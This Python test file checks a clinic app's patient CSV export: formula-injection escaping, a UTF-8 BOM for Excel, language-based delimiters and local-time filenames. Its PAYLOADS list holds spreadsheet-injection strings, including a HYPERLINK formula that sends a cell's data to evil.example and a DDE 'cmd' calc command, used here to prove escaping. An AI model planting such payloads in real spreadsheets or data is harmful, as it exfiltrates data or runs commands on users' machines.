"""The patient CSV export opens in Excel or LibreOffice as text: a name cannot be a formula, a phone stays a phone;
accents, columns and the file's name come out right in a French Excel."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import time_machine
from sqlalchemy import select

from service.csvsafe import safe_cell
from service.extensions import db
from service.models import Patient, User
from service.timeutil import utcnow
from tests.admin.conftest import STAFF, sign_in
from tests.helpers import PARIS, local_day

BOM = "\ufeff".encode()

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
]


def exported_rows(client, delimiter: str = ",") -> list[dict[str, str]]:
    response = client.get("/admin/patient/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig")), delimiter=delimiter))


def add_patient(app, first_name: str = "Inès", last_name: str = "Moreau") -> None:
    with app.app_context():
        db.session.add(
            Patient(first_name=first_name, last_name=last_name, phone="+33611223344", language="fr", created_at=utcnow())
        )
        db.session.commit()


def read_in(app, language: str) -> None:
    with app.app_context():
        db.session.execute(select(User).where(User.email == STAFF[0])).scalar_one().language = language
        db.session.commit()


def test_no_exported_name_starts_a_formula_and_phones_still_read_as_phones(app, staff):
    with app.app_context():
        for i, payload in enumerate(PAYLOADS):
            db.session.add(
                Patient(first_name=payload, last_name=f"Martin{i}", phone=f"+3361234567{i}", language="fr", created_at=utcnow())
            )
        db.session.commit()

    rows = exported_rows(staff)
    assert len(rows) == len(PAYLOADS)
    names = {row["Last name"]: row["First name"] for row in rows}
    for i, payload in enumerate(PAYLOADS):
        cell = names[f"Martin{i}"]
        assert cell == "'" + payload, cell  # shown as typed, as text: the apostrophe is the spreadsheet's "text" mark
        assert cell[0] not in "=+-@\t\r\uff1d"
    phones = sorted(row["Mobile"] for row in rows)
    assert phones[0] == "'+33612345670"  # Excel shows +33612345670: the +, the country code, every digit
    assert all(p.removeprefix("'").removeprefix("+").isdigit() and len(p) == 13 for p in phones)


def test_plain_text_and_numbers_are_exported_unchanged():
    assert safe_cell("Inès") == "Inès" and safe_cell("O'Brien") == "O'Brien" and safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(True) is True


def test_the_export_starts_with_a_bom_so_excel_reads_accents(app, staff):
    add_patient(app)
    data = staff.get("/admin/patient/export/csv/").get_data()
    assert data.startswith(BOM)
    assert "Inès" in data.decode("utf-8-sig")  # without the BOM, Excel shows "InÃ¨s"


def test_a_french_reader_gets_semicolons_and_an_english_one_commas(app, staff):
    add_patient(app, last_name="Moreau, née Petit")
    english = staff.get("/admin/patient/export/csv/").get_data().decode("utf-8-sig")
    assert english.splitlines()[0].count(",") >= 2 and ";" not in english.splitlines()[0]
    read_in(app, "fr")
    french = staff.get("/admin/patient/export/csv/").get_data().decode("utf-8-sig")
    header = french.splitlines()[0]
    assert header.count(";") >= 2 and "," not in header  # a French Excel splits columns on ";"
    (row,) = exported_rows(staff, delimiter=";")
    assert row["Nom"] == "Moreau, née Petit" and row["Prénom"] == "Inès"  # the reader's own column names


def test_the_file_is_named_with_the_clinics_local_time_not_utc(app, client):
    add_patient(app)
    moment = local_day(PARIS, 0, 16, 45) + timedelta(seconds=30)  # today 16:45 in Paris: 15:45 or 14:45 UTC
    with time_machine.travel(moment, tick=False):  # signed in at that moment too: a session lasts 8 hours
        assert sign_in(client, *STAFF).status_code == 302
        response = client.get("/admin/patient/export/csv/")
    name = f"patients-{moment.astimezone(PARIS):%Y-%m-%d}-1645.csv"
    assert response.headers["Content-Disposition"] == f"attachment;filename={name}"
